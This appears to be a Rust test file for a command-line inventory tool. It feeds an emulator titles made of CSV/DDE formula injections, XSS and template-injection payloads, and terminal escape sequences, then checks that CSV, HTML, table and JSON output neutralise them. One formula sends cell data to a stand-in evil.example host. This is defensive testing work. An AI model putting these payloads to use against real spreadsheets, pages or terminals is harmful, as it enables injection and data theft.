//! Titles that are formulas, markup and commands, in an emulator whose seed has nothing else.

use std::path::PathBuf;

use scraper::{Html, Selector};
use serde_json::Value;

use crate::harness::{Outcome, Stocktake};

const TITLES: [&str; 16] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a\",=1+1,\"b\r\n=2+2,\"",
    "<script>window.pwned=1</script>",
    "</title></svg></style><img src=x onerror=\"window.pwned=1\">",
    "' onmouseover='window.pwned=1' x='",
    "\" onfocus=\"window.pwned=1\" autofocus x=\"",
    "<a href=\"javascript:window.pwned=1\">x</a><iframe src=\"https://evil.example\">",
    "--><!--<base href=//evil.example>&lt;b&gt;{{7*7}}${7*7}",
    "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{202e}drows\u{7f}\u{0}",
];

/// The small organisation, with another title wherever there is one.
struct Bad {
    seed: PathBuf,
    folder: tempfile::TempDir,
}

impl Bad {
    fn new() -> Self {
        let folders = concat!(env!("CARGO_MANIFEST_DIR"), "/../emulator/seeds/small");
        let mut number = 0;
        let mut next = || {
            number += 1;
            TITLES[number % TITLES.len()].to_owned()
        };
        let mut seed = serde_json::Map::new();
        for (part, file) in [
            ("login", "login"),
            ("storeForBusiness", "store-for-business"),
            ("storeServices", "store-services"),
            ("partnerCenter", "partner-center"),
        ] {
            let text = std::fs::read_to_string(format!("{folders}/{file}.json")).unwrap();
            let mut value: Value = serde_json::from_str(&text).unwrap();
            spoil(&mut value, "", &mut next);
            seed.insert(part.to_owned(), value);
        }
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("seed.json");
        std::fs::write(&file, Value::Object(seed).to_string()).unwrap();
        assert!(number > 100, "{number} titles");
        Self { seed: file, folder }
    }

    fn run(&self, words: &[&str]) -> Outcome {
        let emulator = format!("--emulator={}", self.seed.display());
        let words = words.iter().copied().chain([emulator.as_str()]);
        Stocktake::new(words).run()
    }
}

/// Puts another title everywhere.
fn spoil(value: &mut Value, within: &str, next: &mut impl FnMut() -> String) {
    match value {
        Value::Array(values) => values
            .iter_mut()
            .for_each(|value| spoil(value, within, next)),
        Value::Object(fields) => {
            for (name, value) in fields {
                let is_title = ["title", "displayName", "description", "caption"]
                    .contains(&name.as_str())
                    || (name == "name" && ["publisher", "customers"].contains(&within));
                match value {
                    Value::String(text) if is_title => *text = next(),
                    value => spoil(value, name, next),
                }
            }
        }
        _ => {}
    }
}

/// Commands that list what has a title.
const LISTINGS: [&[&str]; 5] = [
    &["take", "--all"],
    &["take"],
    &["inventory", "list"],
    &[
        "products",
        "get",
        "9WZDNCRFJ3PS",
        "0015",
        "--language",
        "en-us",
    ],
    &["catalog", "products", "--country", "US", "--view", "Azure"],
];

#[test]
fn no_cell_of_csv_is_a_formula() {
    let bad = Bad::new();
    let mut guarded = 0;
    for words in LISTINGS {
        if words == ["take", "--all"] {
            continue;
        }
        let text = bad.run(&[words, &["-o", "csv"]].concat()).exits(0).stdout;
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(text.as_bytes());
        let columns = reader.headers().unwrap().len();
        for record in reader.records() {
            let record = record.unwrap();
            assert_eq!(record.len(), columns, "{record:?}");
            for cell in &record {
                let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
                assert!(
                    !is_formula || cell.parse::<f64>().is_ok(),
                    "{words:?}: {cell:?}"
                );
                guarded += usize::from(cell.starts_with('\''));
            }
        }
    }
    assert!(guarded > 10, "{guarded} titles would have been formulas");
}

#[test]
fn no_title_is_markup() {
    let bad = Bad::new();
    let file = bad.folder.path().join("page.html");
    let name = file.to_str().unwrap();
    bad.run(&["take", "-o", "html", "--out", name]).exits(0);
    let text = std::fs::read_to_string(&file).unwrap();
    let page = Html::parse_document(&text);
    assert_eq!(page.errors, Vec::<std::borrow::Cow<'static, str>>::new());
    let select = |selector: &str| page.select(&Selector::parse(selector).unwrap()).count();
    for selector in [
        "script",
        "img",
        "iframe",
        "object",
        "embed",
        "base",
        "form",
        "a[href^=java]",
    ] {
        assert_eq!(select(selector), 0, "{selector}");
    }
    assert_eq!(select("title"), 1 + select("svg title"));
    let all = Selector::parse("*").unwrap();
    for element in page.select(&all) {
        for (name, value) in element.value().attrs() {
            assert!(
                !name.starts_with("on") && name != "autofocus" && name != "src",
                "{name}={value}"
            );
            assert!(!value.contains("evil.example") || name == "title" || name == "aria-label");
        }
    }
    // They are there to be read.
    let shown: String = page.root_element().text().collect();
    for title in [
        "=cmd|' /C calc'!A0",
        "<script>window.pwned=1</script>",
        "{{7*7}}",
    ] {
        assert!(shown.contains(title), "{title}");
    }
    let harmless = |c: char| !c.is_control() || "\n\t\r".contains(c);
    assert!(text.chars().all(harmless));
    assert!(!text.contains('\u{202e}'));
}

#[test]
fn no_title_commands_a_terminal() {
    let bad = Bad::new();
    for words in LISTINGS {
        for colour in ["never", "always"] {
            let outcome = bad.run(&[words, &["--color", colour, "-o", "table"]].concat());
            let text = outcome.exits(0).stdout;
            // Our own colours are all that may be there.
            let own = ["\u{1b}[0m", "\u{1b}[1m", "\u{1b}[39m", "\u{1b}[22m"];
            let mut rest = own.iter().fold(text, |text, own| text.replace(own, ""));
            while let Some(at) = rest.find("\u{1b}[38;5;") {
                let end = at + rest[at..].find('m').unwrap();
                let code = &rest[at + 7..end];
                assert!(code.len() <= 3 && code.parse::<u8>().is_ok(), "{code:?}");
                rest.replace_range(at..=end, "");
            }
            let bad = rest
                .chars()
                .find(|c| (c.is_control() && *c != '\n') || *c == '\u{202e}');
            assert_eq!(bad, None, "{words:?} {colour}: {rest:?}");
        }
    }
}

/// JSON for programs is often read by people, on a terminal. It loses nothing, and commands nothing.
#[test]
fn no_title_in_json_commands_a_terminal() {
    let bad = Bad::new();
    for format in ["json", "ndjson"] {
        let mut found = false;
        for words in LISTINGS {
            if words == ["take", "--all"] {
                continue;
            }
            let text = bad.run(&[words, &["-o", format]].concat()).exits(0).stdout;
            let command = text.chars().find(|c| c.is_control() && *c != '\n');
            assert_eq!(command, None, "{words:?} {format}");
            let mut values = serde_json::Deserializer::from_str(&text).into_iter::<Value>();
            found |= values.any(|value| holds(&value.unwrap(), TITLES[15]));
        }
        assert!(found, "the title itself is there, escaped");
    }
}

/// Whether a text is somewhere in a value.
fn holds(value: &Value, wanted: &str) -> bool {
    match value {
        Value::String(text) => text == wanted,
        Value::Array(values) => values.iter().any(|value| holds(value, wanted)),
        Value::Object(fields) => fields.values().any(|value| holds(value, wanted)),
        _ => false,
    }
}
